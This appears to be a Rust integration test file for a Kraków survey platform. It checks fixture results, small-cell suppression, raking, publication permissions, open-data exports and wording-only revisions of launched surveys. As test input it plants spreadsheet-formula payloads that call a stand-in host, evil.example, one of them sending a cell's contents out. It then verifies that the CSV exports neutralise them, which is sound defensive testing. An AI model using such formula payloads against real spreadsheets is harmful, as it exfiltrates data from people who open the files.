//! Results against a hand-computed fixture, small-cell suppression, raking, free-text review, publication, the
//! public consultation page, the open data and the analysts' CSV; typo fixes on a launched survey.

use chrono::Utc;
use hejnal::{
    domain::{
        Role,
        panel::{AgeBand, Channel, ConsentMethod, ContactKind, Purpose},
        survey_example,
    },
    i18n::{Lang, t},
    storage::NewResident,
    surveys::launch::invitation_token,
};
use serde_json::{Value, json};

use crate::{
    alerts::api,
    dual,
    support::{Client, Db, TestApp},
};

dual!(results_match_the_fixture_and_publish_only_safe_aggregates, launched_surveys_only_take_wording_fixes);

/// Residents: 30 in district 1, 27 in district 2, 3 in district 3 (the small cell).
async fn panel(app: &TestApp) -> Vec<(i64, i64)> {
    let mut out = Vec::new();
    for (district, n) in [(1, 30), (2, 27), (3, 3)] {
        for i in 0..n {
            let new = NewResident {
                language: "pl".into(),
                home_district: district,
                other_districts: vec![],
                age_band: Some(AgeBand::ALL[i % 2]),
                interests: vec![],
                contacts: vec![(ContactKind::Email, format!("d{district}-{i}@example.org"))],
                consents: vec![(Purpose::Surveys, Channel::Email)],
                method: ConsentMethod::Import,
                notice_version: 1,
                verified: true,
                legal_basis: Some("test fixture".into()),
            };
            out.push((app.store.create_resident(&new, Utc::now()).await.unwrap().unwrap().id, district));
        }
    }
    out
}

fn option<'a>(q: &'a Value, value: &str) -> &'a Value {
    q["options"].as_array().unwrap().iter().find(|o| o["value"] == value).unwrap_or_else(|| panic!("{value} in {q}"))
}

async fn launched_survey(app: &TestApp, editor: &str, approver: &str) -> i64 {
    let def =
        survey_example::every_type(Utc::now() - chrono::Duration::minutes(1), Utc::now() + chrono::Duration::days(1));
    let (status, created) = api(app, editor, "POST", "/api/v1/surveys", Some(serde_json::to_value(def).unwrap())).await;
    assert_eq!(status, 201, "{created}");
    let id = created["id"].as_i64().unwrap();
    let (status, plan) = api(app, approver, "POST", &format!("/api/v1/surveys/{id}/launch"), Some(json!({}))).await;
    assert_eq!(status, 201, "{plan}");
    id
}

async fn results_match_the_fixture_and_publish_only_safe_aggregates(db: Db) {
    let app = TestApp::spawn(db).await;
    let residents = panel(&app).await;
    let (editor, _) = app.add_official("editor@krakow.pl", &[Role::Editor]).await;
    let (approver, _) = app.add_official("approver@krakow.pl", &[Role::Approver]).await;
    let (analyst, _) = app.add_official("analyst@krakow.pl", &[Role::Analyst]).await;
    let (editor, approver, analyst) =
        (app.token_for(editor).await, app.token_for(approver).await, app.token_for(analyst).await);
    let id = launched_survey(&app, &editor, &approver).await;
    let secret = hejnal::delivery::keys(&app.store).await.unwrap().unsubscribe_secret;
    // A question's wording that a spreadsheet would run as a formula (an official's text reaches the open data).
    let (_, shown) = api(&app, &editor, "GET", &format!("/api/v1/surveys/{id}"), None).await;
    let mut def = shown["def"].clone();
    let satisfaction = def["questions"].as_array().unwrap().iter().position(|q| q["id"] == "satisfaction").unwrap();
    for lang in ["pl", "en", "uk"] {
        def["questions"][satisfaction]["text"][lang] = json!("=HYPERLINK(\"http://evil.example/\")");
    }
    let (status, _) =
        api(&app, &editor, "POST", &format!("/api/v1/surveys/{id}/revise"), Some(json!({"def": def, "note": "x"})))
            .await;
    assert_eq!(status, 200);

    // The fixture: district 1 — 20 tram, 10 bus; district 2 — 17 tram, 10 bus; district 3 — 3 tram.
    // Satisfaction 4, except the 20 bus riders who give 2: mean (40·4 + 20·2) / 60 = 3.333…
    let mut per_district = std::collections::BTreeMap::<i64, usize>::new();
    for (resident, district) in &residents {
        let seen = per_district.entry(*district).or_default();
        let bus = (*district == 1 && *seen >= 20) || (*district == 2 && *seen >= 17);
        *seen += 1;
        let mut answers = json!({"mode": if bus { "bus" } else { "tram" }, "problems": ["delays"],
            "satisfaction": if bus { 2 } else { 4 }});
        if *resident % 7 == 0 {
            answers["idea"] = json!(format!("Idea from a resident {}", resident % 3));
        }
        if Some(resident) == residents.last().map(|(r, _)| r) {
            // A formula a spreadsheet would run when an analyst opens the CSV (the last text, after those reviewed).
            answers["idea"] = json!("=HYPERLINK(\"http://evil.example/?\"&A1,\"Idea\")");
        }
        let token = invitation_token(&secret, id, *resident);
        let (status, body) =
            api(&app, &editor, "POST", &format!("/api/v1/responses/{token}"), Some(json!({"answers": answers}))).await;
        assert_eq!(status, 201, "{body}");
    }

    let (status, r) = api(&app, &analyst, "GET", &format!("/api/v1/surveys/{id}/results"), None).await;
    assert_eq!(status, 200, "{r}");
    assert_eq!((r["respondents"].as_u64(), r["invited"].as_u64()), (Some(60), Some(60)));
    let q = |id: &str| r["questions"].as_array().unwrap().iter().find(|q| q["id"] == id).unwrap().clone();
    let mode = q("mode");
    assert_eq!(mode["answered"], 60);
    assert_eq!(option(&mode, "tram")["count"], 40);
    assert_eq!(option(&mode, "bus")["count"], 20);
    assert!((option(&mode, "tram")["percent"].as_f64().unwrap() - 66.666).abs() < 0.01);
    assert!((q("satisfaction")["mean"].as_f64().unwrap() - 10.0 / 3.0).abs() < 1e-9);
    // The cell of 3 (district 3 × tram) is hidden, and no row or column can give it away.
    let by_district = mode["breakdowns"].as_array().unwrap().iter().find(|b| b["by"] == "district");
    if let Some(b) = by_district {
        let row3 = b["rows"].as_array().unwrap().iter().find(|row| row["key"] == "3").unwrap();
        assert!(row3["cells"].as_array().unwrap().iter().all(|c| c.is_null() || c == 0), "{row3}");
        for row in b["rows"].as_array().unwrap() {
            let hidden = row["cells"].as_array().unwrap().iter().filter(|c| c.is_null()).count()
                + row["total"].is_null() as usize;
            assert_ne!(hidden, 1, "a row with one hidden entry gives it away: {row}");
        }
    } else {
        assert!(mode["withheld"].as_array().unwrap().iter().any(|w| w == "breakdown:district"));
    }
    // Raking to the districts' populations (those with respondents) is reproduced within 0.1 %.
    assert_eq!(r["weighting"]["applied"], true, "{}", r["weighting"]);
    assert!(r["weighting"]["max_margin_error"].as_f64().unwrap() < 0.001, "{}", r["weighting"]);
    assert!(r["weighting"]["kish_effective_n"].as_f64().unwrap() < 60.0);

    // Nothing public before publication; then only the chosen questions, and free text only once approved.
    let http = reqwest::Client::new();
    let get = |p: String| http.get(app.url(&p)).send();
    assert_eq!(get(format!("/consultations/{id}")).await.unwrap().status(), 404);
    assert_eq!(get(format!("/open-data/surveys/{id}.csv")).await.unwrap().status(), 404);
    let results_page = format!("/official/surveys/{id}/results");
    // Publishing, approving free text and the responses CSV are for analysts and admins alone, on the pages as in
    // the API (issue 14, finding 10): an editor reads the results page without those controls or the texts still
    // to review, and is refused each of them with a sentence; nothing is published.
    let editor = app.signed_in("results-editor@krakow.pl", &[Role::Editor]).await;
    let only = t(Lang::Pl, "results-publishers-only");
    let page = editor.get(&results_page).await.text().await.unwrap();
    assert!(page.contains(&only), "the page says who may publish");
    assert!(!page.contains("/publication") && !page.contains("responses.csv") && !page.contains("/texts/"));
    assert!(!page.contains("Idea from a resident"), "texts not yet approved are for those who review them");
    let publish = format!("/official/surveys/{id}/publication");
    let res = editor.post_form(&results_page, &publish, &[("question", "mode"), ("said_pl", "Nie.")]).await;
    assert_eq!(res.status(), 403);
    assert!(res.text().await.unwrap().contains(&only), "the refusal says who may");
    let res = editor.get(&format!("/official/surveys/{id}/responses.csv")).await;
    assert_eq!(res.status(), 403);
    assert!(res.text().await.unwrap().contains(&only));
    assert_eq!(get(format!("/consultations/{id}")).await.unwrap().status(), 404, "nothing published");
    let official = app.signed_in("publisher@krakow.pl", &[Role::Analyst]).await;
    let page = official.get(&results_page).await.text().await.unwrap();
    assert!(page.contains("Idea from a resident"), "free text listed for review: {}", &page[..page.len().min(3000)]);
    assert!(page.contains("<svg"), "charts drawn on the server");
    let res = official
        .post_form(
            &results_page,
            &format!("/official/surveys/{id}/publication"),
            &[("question", "mode"), ("question", "satisfaction"), ("said_pl", "Uruchomimy nocne tramwaje.")],
        )
        .await;
    assert_eq!(res.status(), 303);
    let public = get(format!("/consultations/{id}")).await.unwrap().text().await.unwrap();
    assert!(public.contains("Uruchomimy nocne tramwaje.") && public.contains("Jak najczęściej dojeżdżasz?"));
    assert!(!public.contains("Co przeszkadza najbardziej"), "an unpublished question stays private");
    assert!(!public.contains("Idea from a resident"), "unreviewed free text stays private");
    let text_id = first_text_id(&official, &results_page).await;
    // The text is reviewed only under its own survey's path (issue 14, finding 10): elsewhere it is not found.
    let elsewhere = format!("/official/surveys/{}/texts/{text_id}", id + 1000);
    let res = official.post_form(&results_page, &elsewhere, &[("approve", "yes")]).await;
    assert_eq!(res.status(), 404);
    let mine = format!("/official/surveys/{id}/texts/{text_id}");
    let res = editor.post_form(&results_page, &mine, &[("approve", "yes")]).await;
    assert_eq!(res.status(), 403, "an editor approves no free text");
    assert!(res.text().await.unwrap().contains(&only));
    assert!(!get(format!("/consultations/{id}")).await.unwrap().text().await.unwrap().contains("Idea from a resident"));
    let res = official
        .post_form(&results_page, &format!("/official/surveys/{id}/texts/{text_id}"), &[("approve", "yes")])
        .await;
    assert_eq!(res.status(), 303);
    let public = get(format!("/consultations/{id}")).await.unwrap().text().await.unwrap();
    assert!(public.contains("Idea from a resident"), "an approved answer is published");

    // Open data: aggregates only, nothing under k, only the published questions.
    let res = get(format!("/open-data/surveys/{id}.csv")).await.unwrap();
    let describedby = res.headers()["link"].to_str().unwrap().to_string();
    let csv = res.text().await.unwrap();
    assert!(
        csv.starts_with("question_id,question,breakdown,group,option,count,percent,weighted_percent\r\n"),
        "the header row comes first, no comment lines: {csv}"
    );
    assert!(csv.contains("mode") && !csv.contains("problems"), "{csv}");
    // The survey's metadata is in the CSVW file beside it, which the CSV names.
    assert_eq!(describedby, format!("</open-data/surveys/{id}.csv-metadata.json>; rel=\"describedby\""));
    let meta: Value = get(format!("/open-data/surveys/{id}.csv-metadata.json")).await.unwrap().json().await.unwrap();
    assert_eq!(meta["@context"], "http://www.w3.org/ns/csvw");
    assert!(meta["url"].as_str().unwrap().ends_with(&format!("/open-data/surveys/{id}.csv")), "{meta}");
    assert_eq!(meta["notes"][0]["licence"], "CC BY 4.0");
    assert_eq!(meta["tableSchema"]["columns"].as_array().unwrap().len(), 8);
    for line in csv.lines().skip(1) {
        let count = line.split(',').nth(5).unwrap_or("");
        if let Ok(n) = count.parse::<u64>() {
            assert!(n == 0 || n >= 10, "a count under k in the open data: {line}");
        }
    }
    // The formula in the question's wording is neutralised in the open-data CSV as in the analysts' CSV.
    assert!(csv.contains("\"'=HYPERLINK(\"\"http://evil.example/\"\")\""), "{csv}");
    for line in csv.lines() {
        for cell in line.split(',') {
            assert!(!cell.trim_start_matches('"').starts_with(['=', '+', '-', '@']), "a formula cell: {line}");
        }
    }
    let json: Value = get(format!("/open-data/surveys/{id}.json")).await.unwrap().json().await.unwrap();
    assert!(json.to_string().contains("CC BY 4.0"));
    let catalogue = get("/open-data".into()).await.unwrap().text().await.unwrap();
    assert!(catalogue.contains(&format!("/open-data/surveys/{id}.csv")));
    assert!(catalogue.contains(&format!("/open-data/surveys/{id}.csv-metadata.json")));
    // The same catalogue for data portals (DCAT-AP JSON-LD): the survey and the reports, each file answering.
    let res = get("/open-data/catalog.jsonld".into()).await.unwrap();
    assert_eq!(res.headers()["content-type"], "application/ld+json");
    let dcat: Value = res.json().await.unwrap();
    assert_eq!(dcat["@type"], "dcat:Catalog");
    let datasets = dcat["dcat:dataset"].as_array().unwrap();
    assert_eq!(datasets.len(), 2, "the reports and the one published survey: {dcat}");
    let survey = datasets.iter().find(|d| d["dct:identifier"].as_str().unwrap().ends_with(&format!("/surveys/{id}")));
    let survey = survey.expect("the survey is in the catalogue");
    assert_eq!(survey["dct:license"]["@id"], "http://publications.europa.eu/resource/authority/licence/CC_BY_4_0");
    for d in datasets {
        for file in d["dcat:distribution"].as_array().unwrap() {
            let url = file["dcat:downloadURL"]["@id"].as_str().unwrap();
            let path = &url[url.find("/open-data").unwrap()..];
            assert_eq!(get(path.to_string()).await.unwrap().status(), 200, "{url}");
        }
    }

    // The analysts' CSV: one row per response, no identifiers, days only.
    let responses = official.get(&format!("/official/surveys/{id}/responses.csv")).await.text().await.unwrap();
    assert_eq!(responses.lines().count(), 61);
    assert!(!responses.contains('@') && !responses.contains('T'), "no emails, no times: {responses}");
    // Formulas are neutralised: the resident's text is kept, behind a quote, and no cell starts a formula.
    assert!(responses.contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Idea\"\")\""), "{responses}");
    for line in responses.lines() {
        for cell in line.split(',') {
            assert!(!cell.trim_start_matches('"').starts_with(['=', '+', '-', '@']), "a formula cell: {line}");
        }
    }
    app.stop().await;
}

async fn first_text_id(client: &Client, page: &str) -> String {
    let html = client.get(page).await.text().await.unwrap();
    let at = html.find("/texts/").expect("a review form") + "/texts/".len();
    html[at..].chars().take_while(char::is_ascii_digit).collect()
}

async fn launched_surveys_only_take_wording_fixes(db: Db) {
    let app = TestApp::spawn(db).await;
    panel(&app).await;
    let (editor, _) = app.add_official("editor@krakow.pl", &[Role::Editor]).await;
    let (approver, _) = app.add_official("approver@krakow.pl", &[Role::Approver]).await;
    let (editor, approver) = (app.token_for(editor).await, app.token_for(approver).await);
    let id = launched_survey(&app, &editor, &approver).await;
    let (_, shown) = api(&app, &editor, "GET", &format!("/api/v1/surveys/{id}"), None).await;
    let mut fixed = shown["def"].clone();
    fixed["questions"][0]["text"]["pl"] = json!("Jak zwykle dojeżdżasz?");
    let (status, _) = api(
        &app,
        &editor,
        "POST",
        &format!("/api/v1/surveys/{id}/revise"),
        Some(json!({"def": fixed, "note": "typo"})),
    )
    .await;
    assert_eq!(status, 200);
    let mut changed = fixed.clone();
    changed["questions"][0]["options"][0]["value"] = json!("metro");
    let (status, problem) = api(
        &app,
        &editor,
        "POST",
        &format!("/api/v1/surveys/{id}/revise"),
        Some(json!({"def": changed, "note": "new option"})),
    )
    .await;
    assert_eq!(status, 409, "{problem}");
    let (_, after) = api(&app, &editor, "GET", &format!("/api/v1/surveys/{id}"), None).await;
    assert_eq!(after["def"]["questions"][0]["text"]["pl"], "Jak zwykle dojeżdżasz?");
    assert_eq!(after["def"]["questions"][0]["options"][0]["value"], "tram");
    let (status, _) = api(&app, &approver, "POST", &format!("/api/v1/surveys/{id}/launch"), Some(json!({}))).await;
    assert_eq!(status, 409, "launching twice");

    // The same through the officials' page: every text in three languages, a reason required, the fix recorded.
    let page_editor = app.signed_in("wording@krakow.pl", &[Role::Editor]).await;
    let page_url = format!("/official/surveys/{id}/wording");
    let survey_page = page_editor.get(&format!("/official/surveys/{id}?lang=en")).await.text().await.unwrap();
    assert!(survey_page.contains(&format!("href=\"{page_url}\"")), "the launched survey links its wording page");
    let form = page_editor.get(&format!("{page_url}?lang=en")).await.text().await.unwrap();
    assert!(form.contains("Question mode: answer “tram”"), "{form}");
    assert!(form.contains(r#"value="Jak zwykle dojeżdżasz?""#), "the earlier fix is shown");
    let field = form
        .split("name=\"")
        .skip(1)
        .map(|rest| rest.split('"').next().unwrap())
        .find(|name| {
            name.ends_with("_pl") && form.contains(&format!(r#"name="{name}" type="text" lang="pl" value="Tramwaj""#))
        })
        .expect("the Polish field of the answer tram");
    let res = page_editor.post_form(&page_url, &page_url, &[(field, "Tramwaj miejski"), ("note", "")]).await;
    assert_eq!(res.status(), 422, "a reason is required");
    let html = res.text().await.unwrap();
    assert!(html.contains("Say what the correction is") || html.contains("Podaj, na czym polega poprawka"), "{html}");
    assert!(html.contains(r#"value="Tramwaj miejski""#), "the correction is kept on the form");
    let (_, unchanged) = api(&app, &editor, "GET", &format!("/api/v1/surveys/{id}"), None).await;
    assert_eq!(unchanged["def"]["questions"][0]["options"][0]["label"]["pl"], "Tramwaj");
    let res =
        page_editor.post_form(&page_url, &page_url, &[(field, "Tramwaj miejski"), ("note", "clearer answer")]).await;
    assert_eq!(res.status(), 303);
    let (_, fixed) = api(&app, &editor, "GET", &format!("/api/v1/surveys/{id}"), None).await;
    assert_eq!(fixed["def"]["questions"][0]["options"][0]["label"]["pl"], "Tramwaj miejski");
    assert_eq!(fixed["def"]["questions"][0]["options"][0]["value"], "tram", "the answer's key stays");
    let history = page_editor.get(&format!("{page_url}?saved=1&lang=en")).await.text().await.unwrap();
    assert!(history.contains("The correction is saved and recorded."));
    assert!(history.contains("<td>typo</td>") && history.contains("<td>clearer answer</td>"), "{history}");
    app.stop().await;
}
